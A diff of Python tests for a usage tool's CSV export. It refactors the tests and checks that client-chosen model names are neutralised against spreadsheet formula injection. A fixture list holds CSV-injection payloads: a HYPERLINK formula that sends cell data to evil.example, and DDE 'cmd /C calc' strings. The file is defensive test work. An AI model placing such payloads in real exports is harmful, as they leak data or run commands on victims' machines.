@@ -87,12 +87,17 @@ _FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\
              '@SUM(1+1)*cmd|\' /C calc\'!A0']
 
 
-async def test_csv_round_trips_awkward_model_names(tmp_path, capsys):
+async def csv_of_models(tmp_path, capsys, models: list[str]) -> tuple[str, list[str], list[list[str]]]:
+    """`usage --csv` over one row per model name: the output, its header and its rows."""
     db = str(tmp_path / "apertis.db")
-    await _write(db, [_row(f"r{i}", DAY + i, requested_model=m) for i, m in enumerate(_AWKWARD)])
+    await _write(db, [_row(f"r{i}", DAY + i, requested_model=m) for i, m in enumerate(models)])
     out = _usage(capsys, db, "--csv")
     parsed = list(csv.reader(io.StringIO(out, newline="")))
-    header, rows = parsed[0], parsed[1:]
+    return out, parsed[0], parsed[1:]
+
+
+async def test_csv_round_trips_awkward_model_names(tmp_path, capsys):
+    out, header, rows = await csv_of_models(tmp_path, capsys, _AWKWARD)
     assert out.endswith("\r\n") and "requested_model" in header
     assert [r[header.index("requested_model")] for r in rows] == _AWKWARD
     assert [r[header.index("request_id")] for r in rows] == [f"r{i}" for i in range(len(_AWKWARD))]
@@ -101,14 +106,9 @@ async def test_csv_round_trips_awkward_model_names(tmp_path, capsys):
 async def test_csv_does_not_hand_a_spreadsheet_a_formula_from_a_client_chosen_model(tmp_path, capsys):
     # requested_model is whatever the client sent (allow_unpriced, or a 4xx row of an unknown model):
     # opened in Excel/LibreOffice/Sheets, a cell starting with = + - @ runs as a formula (CSV injection).
-    db = str(tmp_path / "apertis.db")
-    await _write(db, [_row(f"r{i}", DAY + i, requested_model=m) for i, m in enumerate(_FORMULAS)])
-    out = _usage(capsys, db, "--csv")
-    parsed = list(csv.reader(io.StringIO(out, newline="")))
-    header, rows = parsed[0], parsed[1:]
+    _, header, rows = await csv_of_models(tmp_path, capsys, _FORMULAS)
     cells = [r[header.index("requested_model")] for r in rows]
-    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
-    assert not live, f"usage --csv writes client-chosen cells a spreadsheet evaluates as formulas: {live!r}"
+    assert cells == ["'" + m for m in _FORMULAS]
 
 
 # --- unpriced rows: reported as unpriced, never as $0 -------------------------------------------------------------
